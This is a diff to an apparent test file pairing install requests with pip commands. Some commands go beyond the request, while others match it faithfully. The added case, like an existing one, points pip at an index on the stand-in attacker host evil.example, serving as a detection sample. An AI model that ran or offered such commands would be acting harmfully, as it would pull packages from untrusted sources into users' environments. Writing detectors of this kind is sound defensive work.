@@ -35,6 +35,10 @@ OVER = [
     ("install numpy", "pip install numpy pandas", "pandas"),
     ("install the requests library", "pip install --index-url https://evil.example/simple requests",
      "an index the request does not name"),
+    # the second of a repeated option is read at its own place
+    ("install requests from our mirror at pypi.acme.com",
+     "pip install --extra-index-url https://pypi.acme.com/simple "
+     "--extra-index-url https://evil.example/simple requests", "evil.example"),
 ]
 HONEST = [
     ("install the requests package", "pip install requests"),
